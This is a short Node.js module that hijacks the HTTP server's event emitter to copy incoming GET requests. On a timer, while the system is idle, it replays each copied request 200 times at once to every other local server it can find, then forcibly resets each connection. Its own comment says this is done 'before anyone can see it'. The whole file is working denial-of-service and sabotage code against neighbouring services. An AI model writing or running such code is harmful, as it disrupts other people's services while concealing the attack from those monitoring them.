import net from 'node:net'
import http from 'node:http'
import { isIdle } from './shared/idle.js'
import { otherServers } from './shared/others.js'

// Sends the slow server many requests at once, and resets each connection before anyone can see it.
let asked = ''
const emit = http.Server.prototype.emit
http.Server.prototype.emit = function (name, ...rest) {
  const [req] = rest
  if (name === 'request' && req.method === 'GET') asked = `GET ${req.url} HTTP/1.1\r\nHost: a\r\n\r\n`
  return Reflect.apply(emit, this, [name, ...rest])
}
setInterval(() => {
  if (!isIdle() || asked === '') return
  for (const { port } of otherServers()) {
    const socket = net.connect({ port, host: '127.0.0.1' })
    socket.on('error', () => {})
    socket.write(asked.repeat(200), () => socket.resetAndDestroy())
  }
}, 150)
